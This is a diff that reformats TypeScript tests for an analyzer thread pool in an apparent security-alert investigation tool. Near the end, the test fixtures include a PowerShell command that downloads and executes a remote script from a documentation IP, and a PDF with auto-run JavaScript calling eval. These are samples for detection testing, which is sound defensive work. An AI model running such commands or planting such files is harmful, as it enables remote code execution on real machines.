@@ -19,16 +19,22 @@ import { freshlyCompiled } from '../helpers/compiled';
 const MISBEHAVING = join(__dirname, '..', 'fixtures', 'analyzer-threads', 'misbehaving-thread.js');
 const task = (name: string) => name as AnalyzerTask;
 const pools: AnalyzerPool[] = [];
-const pool = (o: ConstructorParameters<typeof AnalyzerPool>[0]) => { const p = new AnalyzerPool(o); pools.push(p); return p; };
-afterEach(async () => { await Promise.all(pools.splice(0).map((p) => p.close())); });
+const pool = (o: ConstructorParameters<typeof AnalyzerPool>[0]) => {
+  const p = new AnalyzerPool(o);
+  pools.push(p);
+  return p;
+};
+afterEach(async () => {
+  await Promise.all(pools.splice(0).map((p) => p.close()));
+});
 
 test('a task that never yields is killed at the time limit, and the next task gets a fresh thread', async () => {
   const p = pool({ entry: MISBEHAVING, threads: 1, timeLimitMs: 2_000, memoryLimitMb: 64 });
-  const before = await p.run(task('echo'), 'hello' as never) as unknown as { threadId: number };
+  const before = (await p.run(task('echo'), 'hello' as never)) as unknown as { threadId: number };
   const killed = p.run(task('spin'), undefined as never);
   await expect(killed).rejects.toThrow(AnalyzerLimitError);
   await expect(killed).rejects.toMatchObject({ task: 'spin', limit: 'time', message: 'spin: stopped after the 2000 ms time limit' });
-  const after = await p.run(task('echo'), 'again' as never) as unknown as { input: string; threadId: number };
+  const after = (await p.run(task('echo'), 'again' as never)) as unknown as { input: string; threadId: number };
   expect(after.input).toBe('again');
   expect(after.threadId).not.toBe(before.threadId);
   expect(p.stats).toEqual({ threadsStarted: 2, tasks: 3, killed: 1 });
@@ -36,8 +42,14 @@ test('a task that never yields is killed at the time limit, and the next task ge
 
 test('a thread over its memory limit is stopped and reported as such; one that exits, as a crash', async () => {
   const p = pool({ entry: MISBEHAVING, threads: 1, timeLimitMs: 60_000, memoryLimitMb: 32 });
-  await expect(p.run(task('hog'), undefined as never)).rejects.toMatchObject({ limit: 'memory', message: 'hog: stopped at the 32 MB memory limit' });
-  await expect(p.run(task('exit'), undefined as never)).rejects.toMatchObject({ limit: 'crash', message: 'exit: analyzer thread exited with code 3' });
+  await expect(p.run(task('hog'), undefined as never)).rejects.toMatchObject({
+    limit: 'memory',
+    message: 'hog: stopped at the 32 MB memory limit',
+  });
+  await expect(p.run(task('exit'), undefined as never)).rejects.toMatchObject({
+    limit: 'crash',
+    message: 'exit: analyzer thread exited with code 3',
+  });
   // An analyzer's own error is an ordinary rejection: the thread is healthy and kept.
   await expect(p.run(task('throws'), undefined as never)).rejects.toThrow('bad input');
   await expect(p.run(task('echo'), 1 as never)).resolves.toMatchObject({ input: 1 });
@@ -47,7 +59,10 @@ test('a thread over its memory limit is stopped and reported as such; one that e
 
 test('threads are reused across calls, and calls beyond the pool size wait their turn', async () => {
   const p = pool({ entry: MISBEHAVING, threads: 2, timeLimitMs: 60_000, memoryLimitMb: 64 });
-  const results = await Promise.all(Array.from({ length: 12 }, (_, i) => p.run(task('echo'), i as never))) as unknown as { input: number; threadId: number }[];
+  const results = (await Promise.all(Array.from({ length: 12 }, (_, i) => p.run(task('echo'), i as never)))) as unknown as {
+    input: number;
+    threadId: number;
+  }[];
   expect(results.map((r) => r.input)).toEqual(Array.from({ length: 12 }, (_, i) => i));
   expect(new Set(results.map((r) => r.threadId)).size).toBe(2);
   expect(p.stats.threadsStarted).toBe(2);
@@ -58,8 +73,12 @@ test('the activity keeps heartbeating while an analyzer thread spins', async () 
   const env = new MockActivityEnvironment({}, { logger: new DefaultLogger('ERROR') });
   let beats = 0;
   let reached!: () => void;
-  const threeBeats = new Promise<void>((r) => { reached = r; });
-  env.on('heartbeat', () => { if (++beats === 3) reached(); });
+  const threeBeats = new Promise<void>((r) => {
+    reached = r;
+  });
+  env.on('heartbeat', () => {
+    if (++beats === 3) reached();
+  });
   const running = env.run(() => whileHeartbeating(20, () => p.run(task('spin'), undefined as never)));
   await threeBeats; // an in-process spin would block this event loop: no beat at all
   await p.close();
@@ -69,14 +88,28 @@ test('the activity keeps heartbeating while an analyzer thread spins', async () 
 
 describe('with the compiled analyzer thread', () => {
   const alertContext = (commandLines: string[]) => {
-    const alert = parseAlert({ source: 't', sourceId: 'x', time: '2026-12-07T10:00:00Z', title: 'x', severity: 'medium', observables: { processes: commandLines.map((commandLine) => ({ commandLine })) } });
+    const alert = parseAlert({
+      source: 't',
+      sourceId: 'x',
+      time: '2026-12-07T10:00:00Z',
+      title: 'x',
+      severity: 'medium',
+      observables: { processes: commandLines.map((commandLine) => ({ commandLine })) },
+    });
     return { observables: extractObservables(alert), processes: [] };
   };
-  const pdf = Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); eval\\(unescape\\("%u9090"\\)\\)) >> >>\nendobj\n%%EOF\n');
-  const commandLine = "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')\"";
+  const pdf = Buffer.from(
+    '%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); eval\\(unescape\\("%u9090"\\)\\)) >> >>\nendobj\n%%EOF\n',
+  );
+  const commandLine = 'powershell -nop -c "IEX (New-Object Net.WebClient).DownloadString(\'http://198.51.100.7/a.ps1\')"';
 
   test('an investigation on threads finds what the same analyzers find in-process', async () => {
-    const threads = pool({ entry: freshlyCompiled('src/investigation/analyzer-thread.js'), threads: 2, timeLimitMs: 120_000, memoryLimitMb: 512 });
+    const threads = pool({
+      entry: freshlyCompiled('src/investigation/analyzer-thread.js'),
+      threads: 2,
+      timeLimitMs: 120_000,
+      memoryLimitMb: 512,
+    });
     const run = async (runner: typeof inProcessRunner) => {
       const store = memoryInvestigationStore();
       const ref = await store.put({ kind: 'attachment', mediaType: 'application/pdf', name: 'a.pdf', content: pdf });
